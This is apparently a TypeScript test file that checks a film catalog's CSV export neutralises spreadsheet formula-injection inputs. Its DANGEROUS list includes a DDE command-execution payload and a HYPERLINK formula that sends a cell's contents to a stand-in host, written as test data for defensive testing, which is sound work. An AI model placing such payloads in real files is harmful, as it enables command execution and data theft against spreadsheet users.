import { itemOf } from "@moodreel/core";
import fc from "fast-check";
import { expect, test } from "vitest";
import { csvOfCatalog, type CsvOptions } from "./csv-of-catalog.ts";

const DANGEROUS = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://x.example/?"&A1,"open")',
  "+1+cmd",
  "-2+3",
  "@SUM(1+9)*cmd",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  '"=1+1',
  "'=1+1",
  "\u200b\ufeff=1+1",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(1)",
];

/** The rows of a file, read as a spreadsheet does that cuts at `separator`. */
async function cellsAt(separator: string, title: string, options?: CsvOptions): Promise<readonly string[]> {
  let csv = "";
  const item = itemOf({ id: "tt1", title, people: [title], tags: [title], genres: [title], language: title });
  const store = {
    scan: async function* () {
      yield [item];
    },
  };
  for await (const text of csvOfCatalog(store, "films", options)) csv += text;
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^${separator}\\r\\n]*))(?:${separator}|\\r\\n|\\n|$)`, "gu");
  return Array.from(csv.matchAll(cell), ([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? "");
}

test.each(DANGEROUS)(
  "%j cannot be a formula in a file for spreadsheets, and is as it was by default",
  async (title) => {
    for (const text of [title, `Heat; ${title}`, `Heat,${title}`, `Heat\n${title}`, `Heat";"${title}`]) {
      for (const separator of [",", ";", "\t"]) {
        const cells = await cellsAt(separator, text, { forSpreadsheets: true });
        expect(cells.filter((cell) => /^[\s"\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell))).toEqual([]);
      }
    }
    expect(await cellsAt(",", title)).toContain(title);
  },
);

test("text that is no formula stays as it is, for spreadsheets too", async () => {
  for (const title of [
    "Spider-Man: No Way Home",
    "8½",
    "Fast & Furious",
    "rock 'n' roll",
    "C'mon C'mon",
    "10 = 10",
  ]) {
    expect(await cellsAt(",", title, { forSpreadsheets: true })).toContain(title);
  }
});

test("no cell of any text begins a formula", async () => {
  const text = fc
    .array(fc.constantFrom(...Array.from("=+-@＝\t\r\n \"',;|a1\u200b")), { minLength: 1, maxLength: 8 })
    .map((letters) => letters.join(""));
  await fc.assert(
    fc.asyncProperty(text, async (title) => {
      const cells = await cellsAt(",", title, { forSpreadsheets: true });
      expect(cells.filter((cell) => /^[\s"\p{Cf}]*[=+\-@＝]|^[\t\r]/u.test(cell))).toEqual([]);
    }),
  );
});
